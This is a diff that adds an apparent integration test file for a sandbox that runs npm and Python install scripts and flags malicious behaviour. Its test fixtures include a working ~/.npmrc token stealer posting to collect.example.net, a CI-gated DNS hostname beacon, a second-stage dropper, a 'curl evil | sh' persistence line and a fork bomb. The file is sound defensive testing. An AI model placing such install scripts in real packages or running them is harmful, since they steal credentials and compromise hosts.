@@ -1,0 +1,164 @@
+// The dynamic stage on real bubblewrap and strace: hostile install scripts stay contained and are reported;
+// stealers, DNS beacons and droppers yield their signals; a legitimate install script yields none of them.
+import { randomBytes } from 'node:crypto'
+import { existsSync, rmSync, writeFileSync } from 'node:fs'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
+import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
+import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
+import { DEFAULT_SANDBOX_OPTIONS, PERSONAS, runSandbox, sandboxAvailability, type SandboxOptions } from '../../src/scanning/sandbox/runner.ts'
+import { dynamicFindings } from '../../src/scanning/sandbox/signals.ts'
+import { findHoneytokens, plantHoneytokens } from '../../src/scanning/sandbox/honeytokens.ts'
+import { npmTarball } from '../helpers/tarballs.ts'
+import { sdistTarGz } from '../helpers/python-dists.ts'
+
+const ONE: SandboxOptions = { ...DEFAULT_SANDBOX_OPTIONS, personas: [PERSONAS[0]!], stepTimeoutMs: 4000, runTimeoutMs: 20_000 }
+
+async function npmRun(files: Record<string, string>, scripts: Record<string, string>, options: SandboxOptions = ONE) {
+  const artifact = await npmEcosystem.readArtifact(await npmTarball('sandboxed', '1.0.0', { 'index.js': 'module.exports = 1\n', ...files }, { scripts }), DEFAULT_ARCHIVE_LIMITS)
+  const run = await runSandbox(npmEcosystem, artifact, options)
+  return { run, findings: dynamicFindings(run) }
+}
+const rules = (f: { signals: { rule: string }[] }) => f.signals.map((s) => s.rule).sort()
+
+beforeAll(() => {
+  const available = sandboxAvailability()
+  if (!available.ok) throw new Error(`the sandbox tests need bubblewrap, strace and util-linux: ${available.reason} (.ci/run installs them)`)
+})
+
+describe('honeytokens', () => {
+  it('are fresh per run and found plain, base64, hex, URL-encoded and inside base64 JSON', () => {
+    const a = plantHoneytokens()
+    const b = plantHoneytokens()
+    expect(a.env.NPM_TOKEN).not.toBe(b.env.NPM_TOKEN)
+    const npm = a.env.NPM_TOKEN!
+    for (const sent of [npm, Buffer.from(npm).toString('base64'), Buffer.from(npm).toString('hex'), encodeURIComponent(`x=${npm}&y=1`), Buffer.from(JSON.stringify({ rc: `//r/:_authToken=${npm}` })).toString('base64')]) {
+      expect(findHoneytokens(sent, a.tokens).map((t) => t.kind), sent).toContain('npm token')
+    }
+    expect(findHoneytokens(`hello ${b.env.NPM_TOKEN}`, a.tokens)).toEqual([])
+  })
+})
+
+describe('containment', () => {
+  it('keeps the network inside: names resolve to the sinkhole, raw addresses are unreachable, both are reported', { timeout: 60_000 }, async () => {
+    const { run, findings } = await npmRun(
+      {
+        'net.js': `const net = require('net'); const https = require('https')
+https.get('https://updates.evil-cdn.example/payload?v=1', (r) => r.resume()).on('error', () => {})
+net.connect(4444, '203.0.113.9').on('error', (e) => console.log('raw', e.code))`,
+      },
+      { postinstall: 'node net.js' },
+    )
+    const persona = run.runs[0]!
+    expect(persona.steps[0]).toMatchObject({ label: 'postinstall', exitCode: 0, timedOut: false })
+    expect(persona.steps[0]!.stdout).toContain('raw ENETUNREACH')
+    expect(persona.network.some((e) => e.kind === 'http' && e.host === 'updates.evil-cdn.example' && e.path === '/payload?v=1')).toBe(true)
+    expect(rules(findings)).toContain('sandbox-network')
+    expect(JSON.stringify(findings.trace.events)).toContain('203.0.113.9:4444')
+  })
+
+  it('cannot write outside, nor read host files that are not bound in', { timeout: 60_000 }, async () => {
+    const marker = `/var/tmp/gatehouse-sandbox-${randomBytes(6).toString('hex')}`
+    const secret = `/root/gatehouse-host-secret-${randomBytes(6).toString('hex')}`
+    writeFileSync(secret, 'host secret\n')
+    try {
+      const { run, findings } = await npmRun({}, { postinstall: `echo pwned > ${marker}; echo x >> /usr/bin/env; cat ${secret} || echo unreadable; echo 'curl evil | sh' >> ~/.bashrc` })
+      expect(existsSync(marker)).toBe(false)
+      const steps = run.runs[0]!.steps[0]!
+      expect(steps.stdout).toContain('unreadable')
+      expect(steps.stdout).not.toContain('host secret')
+      const trace = JSON.stringify(findings.trace.events)
+      expect(trace).toContain('/usr/bin/env')
+      expect(rules(findings)).toContain('sandbox-persistence')
+    } finally {
+      rmSync(secret, { force: true })
+    }
+  })
+
+  it('ends a fork bomb and a sleeper at their limits, and reports them', { timeout: 60_000 }, async () => {
+    const started = Date.now()
+    const { run, findings } = await npmRun({}, { preinstall: 'bomb() { bomb | bomb & }; bomb; sleep 2', postinstall: 'sleep 100000' }, { ...ONE, stepTimeoutMs: 3000, processes: 32 })
+    const [, sleeper] = run.runs[0]!.steps
+    expect(sleeper).toMatchObject({ label: 'postinstall', timedOut: true })
+    expect(Date.now() - started).toBeLessThan(20_000)
+    const events = findings.trace.events
+    expect(events).toContainEqual(expect.objectContaining({ step: 'preinstall', event: 'processes', note: 'hit the process limit' }))
+    expect(events).toContainEqual(expect.objectContaining({ step: 'postinstall', event: 'timeout' }))
+    // nothing of the sandbox's user is left running on the host
+    const { execFileSync } = await import('node:child_process')
+    const left = (() => {
+      try {
+        return execFileSync('pgrep', ['-u', '65534'], { encoding: 'utf8' }).trim()
+      } catch {
+        return ''
+      }
+    })()
+    expect(left).toBe('')
+  })
+})
+
+describe('detection', () => {
+  it('catches a stealer that sends the planted ~/.npmrc token base64-encoded over HTTPS', { timeout: 60_000 }, async () => {
+    const { findings } = await npmRun(
+      {
+        'steal.js': `const fs = require('fs'), os = require('os'), https = require('https')
+const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
+const req = https.request({ hostname: 'collect.example.net', path: '/t', method: 'POST' }, (r) => r.resume())
+req.on('error', () => {})
+req.end(Buffer.from(rc).toString('base64'))`,
+      },
+      { postinstall: 'node steal.js' },
+    )
+    expect(rules(findings)).toEqual(expect.arrayContaining(['sandbox-honeytoken-egress', 'sandbox-reads-secrets', 'sandbox-network']))
+    expect(findings.signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/npm token .*collect\.example\.net/)
+  })
+
+  it('catches the host name sent over DNS, only where the payload gates on CI', { timeout: 90_000 }, async () => {
+    const { findings } = await npmRun(
+      { 'beacon.js': `if (process.env.CI) require('dns').lookup(require('os').hostname() + '.b.oast.example', () => {})` },
+      { preinstall: 'node beacon.js' },
+      { ...ONE, personas: PERSONAS },
+    )
+    const beacon = findings.signals.find((s) => s.rule === 'sandbox-system-info-egress')
+    expect(beacon?.message).toMatch(/runner-7f3a.*\[ci\]/)
+  })
+
+  it('catches a dropper that downloads a second stage and runs it', { timeout: 60_000 }, async () => {
+    const { findings } = await npmRun(
+      {
+        'drop.js': `const http = require('http'), fs = require('fs'), { execFileSync } = require('child_process')
+http.get('http://cdn.example.org/stage2.sh', (res) => {
+  const out = fs.createWriteStream('/tmp/stage2.sh')
+  res.pipe(out)
+  out.on('finish', () => { fs.chmodSync('/tmp/stage2.sh', 0o755); execFileSync('/tmp/stage2.sh') })
+}).on('error', () => {})`,
+      },
+      { postinstall: 'node drop.js' },
+    )
+    expect(rules(findings)).toContain('sandbox-runs-downloaded-code')
+  })
+
+  it('finds nothing in a legitimate install script that builds and prints, nor in a plain Python package', { timeout: 90_000 }, async () => {
+    const { run, findings } = await npmRun(
+      {
+        'build.js': `const fs = require('fs'); const { execFileSync } = require('child_process')
+fs.mkdirSync('build', { recursive: true })
+fs.writeFileSync('build/addon.c', 'int answer(void) { return 42; }\\n')
+execFileSync('cc', ['-c', '-o', 'build/addon.o', 'build/addon.c'])
+fs.writeFileSync('build/out.js', 'module.exports = 42\\n')
+require('./build/out.js')
+console.log('thanks for installing sandboxed!')`,
+      },
+      { install: 'node build.js' },
+    )
+    expect(run.runs[0]!.steps[0]).toMatchObject({ exitCode: 0 })
+    expect(run.runs[0]!.steps[0]!.stdout).toContain('thanks for installing')
+    expect(findings.signals).toEqual([])
+
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('plainpkg', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='plainpkg', version='1.0.0', packages=['plainpkg'])\n", 'plainpkg/__init__.py': 'ANSWER = 42\n' }), DEFAULT_ARCHIVE_LIMITS, { filename: 'plainpkg-1.0.0.tar.gz' })
+    const py = await runSandbox(pypiEcosystem, sdist, ONE)
+    expect(py.steps.map((s) => s.label)).toEqual(['setup.py', 'import plainpkg'])
+    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0])
+    expect(dynamicFindings(py).signals).toEqual([])
+  })
+})
